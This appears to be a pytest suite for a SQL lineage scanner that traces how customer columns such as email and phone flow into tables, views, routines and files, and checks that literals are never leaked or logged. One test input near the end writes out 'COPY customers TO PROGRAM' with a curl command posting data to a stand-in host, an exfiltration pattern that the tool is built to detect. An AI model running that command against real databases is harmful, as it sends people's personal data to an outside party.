"""What statements of every kind carry, column by column, and that none of their literals comes along."""

from __future__ import annotations

import logging

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.sql.lineage import carried
from scanner.sql.moves import Carried
from scanner.sql.statements import trigger_of

TABLES = {"customers": ("id", "email", "name", "phone"), "orders": ("id", "customer_id", "total")}


def columns(sql: str, dialect: str = "postgres", view: str = "") -> set[tuple[str, str]]:
    """Column to column, as text."""
    found = carried(sql, dialect, TABLES, view)
    return {(".".join(c.origin), ".".join(c.target)) for c in found if len(c.origin) == 2}


STATEMENTS = [
    ("INSERT INTO mails (mail) SELECT email FROM customers", {("customers.email", "mails.mail")}),
    ("INSERT INTO mails SELECT c.email AS mail FROM customers c", {("customers.email", "mails.mail")}),
    ("CREATE TABLE copy AS SELECT email FROM customers", {("customers.email", "copy.email")}),
    ("SELECT email INTO copy FROM customers", {("customers.email", "copy.email")}),
    ("UPDATE mails SET mail = c.email FROM customers c WHERE c.id = mails.id", {("customers.email", "mails.mail")}),
    (
        "CREATE VIEW v AS SELECT name, phone FROM customers",
        {("customers.name", "v.name"), ("customers.phone", "v.phone")},
    ),
    ("CREATE VIEW v AS SELECT * FROM orders", {(f"orders.{c}", f"v.{c}") for c in TABLES["orders"]}),
    ("CREATE VIEW v AS SELECT x.e FROM (SELECT email AS e FROM customers) x", {("customers.email", "v.e")}),
    ("CREATE VIEW v AS WITH a AS (SELECT email AS e FROM customers) SELECT e FROM a", {("customers.email", "v.e")}),
    (
        "CREATE VIEW v AS SELECT email AS e FROM customers UNION ALL SELECT phone FROM customers",
        {("customers.email", "v.e"), ("customers.phone", "v.e")},
    ),
    (
        "CREATE VIEW v AS SELECT c.name AS n, o.total AS t FROM customers c JOIN orders o ON o.customer_id = c.id",
        {("customers.name", "v.n"), ("orders.total", "v.t")},
    ),
    (
        "CREATE FUNCTION f() RETURNS trigger AS $$ BEGIN IF true THEN INSERT INTO audit (mail) SELECT email "
        "FROM customers; END IF; RETURN NEW; END; $$ LANGUAGE plpgsql",
        {("customers.email", "audit.mail")},
    ),
]


@pytest.mark.parametrize(("sql", "expected"), STATEMENTS)
def test_a_statement_carries_columns(sql: str, expected: set[tuple[str, str]]) -> None:
    assert columns(sql) == expected


@pytest.mark.parametrize(
    ("sql", "dialect"),
    [
        ("COPY (SELECT email FROM customers) TO '/exports/jean.dupont.csv' WITH CSV", "postgres"),
        ("COPY customers (email) TO PROGRAM 'gzip > /x'", "postgres"),
        ("SELECT email INTO OUTFILE '/tmp/jean.dupont' FIELDS TERMINATED BY ',' FROM customers", "mysql"),
    ],
)
def test_a_file_that_is_written_is_a_target(sql: str, dialect: str) -> None:
    found = carried(sql, dialect, TABLES)
    assert {c.origin for c in found} == {("customers",), ("customers", "email")}
    assert all(c.to_file and c.target[0] == "a file" for c in found)


def test_what_is_read_in_is_no_flow_out() -> None:
    assert carried("COPY customers FROM '/import.csv'", "postgres", TABLES) == ()
    assert carried("INSERT INTO customers (email) VALUES ('a@b.fr')", "postgres", TABLES) == ()
    assert carried("SELECT email FROM customers WHERE name = 'Jean'", "postgres", TABLES) == ()


@pytest.mark.parametrize(
    ("expression", "transform"),
    [
        ("email", ""),
        ("lower(email)", ""),
        ("md5(lower(email))", "hashed"),
        ("encode(digest(email, 'sha256'), 'hex')", "hashed"),
        ("left(email, 2) || '***'", "masked"),
        ("regexp_replace(email, '.+@', '@')", "masked"),
        ("count(email)", "aggregated"),
        ("max(email)", ""),
    ],
)
def test_what_is_done_on_the_way_is_kept(expression: str, transform: str) -> None:
    found = carried(f"INSERT INTO t (x) SELECT {expression} FROM customers", "postgres", TABLES)
    assert [c.transform for c in found if len(c.origin) == 2] == [transform]


def test_a_hash_inside_a_query_inside_is_kept() -> None:
    sql = "CREATE VIEW v AS SELECT h FROM (SELECT md5(email) AS h FROM customers) x"
    assert Carried(("customers", "email"), ("v", "h"), "a view", "hashed") in carried(sql, "postgres", TABLES)


def test_without_known_columns_the_tables_are_told() -> None:
    assert carried("CREATE VIEW v AS SELECT * FROM elsewhere", "postgres") == (
        Carried(("elsewhere",), ("v",), "a view"),
    )


def test_merge_and_a_views_own_query() -> None:
    merge = "MERGE INTO t USING customers c ON t.id = c.id WHEN MATCHED THEN UPDATE SET mail = c.email"
    assert Carried(("customers",), ("t",), "MERGE") in carried(merge, "postgres", TABLES)
    assert columns("SELECT email FROM customers", view="v") == {("customers.email", "v.email")}


def test_one_broken_statement_costs_itself() -> None:
    assert columns("SELECT (((; INSERT INTO z SELECT email FROM customers; nonsense here") == {
        ("customers.email", "z.email")
    }


def test_schemas_and_quotes() -> None:
    tables = {"public.Customers": ("Email",)}
    found = carried('INSERT INTO "out"."Mails" ("Mail") SELECT "Email" FROM "public"."Customers"', "postgres", tables)
    assert Carried(("public.Customers", "Email"), ("out.Mails", "Mail"), "INSERT … SELECT") in found


def test_a_triggers_table_and_function() -> None:
    sql = 'CREATE TRIGGER t AFTER INSERT ON public."orders" FOR EACH ROW EXECUTE FUNCTION public.note()'
    assert trigger_of(sql) == ("public.orders", "public.note")
    assert trigger_of("SELECT 1") is None


def test_no_literal_leaves_and_nothing_is_logged(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.DEBUG):
        found = carried(
            "REFRESH SECRETWORD; INSERT INTO t (x) SELECT email FROM customers WHERE name = 'SECRETWORD'", "postgres"
        )
    assert "SECRETWORD" not in repr(found)
    assert "SECRETWORD" not in caplog.text


@given(st.text(alphabet="SELECT INTO FROMX()*,;'\"$ab.1-\n", max_size=120))
def test_any_text_is_read_without_an_error(sql: str) -> None:
    for dialect in ("postgres", "mysql"):
        assert isinstance(carried(sql, dialect, TABLES), tuple)


SCHEMAS = {"public.customers": ("id", "email", "name"), "mart.contacts": ("mail", "who")}
ROUTINES = {
    "plpgsql": "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $function$\nDECLARE x int;\nBEGIN\n"
    "INSERT INTO mart.contacts (mail) SELECT email FROM customers WHERE name = 'SECRETWORD';\nPERFORM 1;\nEND\n"
    "$function$",
    "sql": "CREATE PROCEDURE p() LANGUAGE sql AS $$ INSERT INTO mart.contacts SELECT email FROM Customers; SELECT 1 $$",
    "atomic": "CREATE PROCEDURE p() BEGIN ATOMIC INSERT INTO mart.contacts (mail) SELECT email FROM customers; END",
}


@pytest.mark.parametrize("kind", sorted(ROUTINES))
def test_routines_of_every_form_with_their_default_schema(kind: str) -> None:
    found = carried(ROUTINES[kind], "postgres", SCHEMAS, schema="public")
    assert [(c.origin, c.target) for c in found] == [
        (("public.customers",), ("mart.contacts",)),
        (("public.customers", "email"), ("mart.contacts", "mail")),
    ]
    assert "SECRETWORD" not in repr(found)


def test_a_trigger_writes_what_stands_in_its_row() -> None:
    body = "BEGIN INSERT INTO audit (at, mail) VALUES (now(), md5(NEW.email)); RETURN NEW; END"
    found = carried(body, "postgres", SCHEMAS, schema="public", body=True)
    assert Carried(("NEW", "email"), ("public.audit", "mail"), "INSERT … VALUES", "hashed") in found
    whole = carried("INSERT INTO audit (row) VALUES (to_jsonb(OLD))", "postgres", SCHEMAS, schema="public", body=True)
    assert whole == (Carried(("OLD",), ("public.audit",), "INSERT … VALUES"),)


def test_a_variable_in_a_body_is_no_table() -> None:
    assert carried("BEGIN SELECT email INTO found FROM customers; END", "postgres", SCHEMAS, body=True) == ()


@pytest.mark.parametrize(
    ("sql", "dialect", "path"),
    [
        ("COPY customers TO '/srv/out/x.csv' CSV", "postgres", "/srv/out/x.csv"),
        ("COPY customers TO STDOUT", "postgres", ""),
        ("COPY customers TO PROGRAM 'curl -d SECRETWORD https://x.example'", "postgres", ""),
        ("SELECT email FROM customers INTO OUTFILE '/srv/out/x.csv'", "mysql", "/srv/out/x.csv"),
        ("SELECT email FROM customers INTO OUTFILE ?", "mysql", ""),
    ],
)
def test_the_file_that_is_written_is_named(sql: str, dialect: str, path: str) -> None:
    found = carried(sql, dialect, TABLES)
    assert {c.path for c in found} == {path}
    assert "SECRETWORD" not in repr(found)
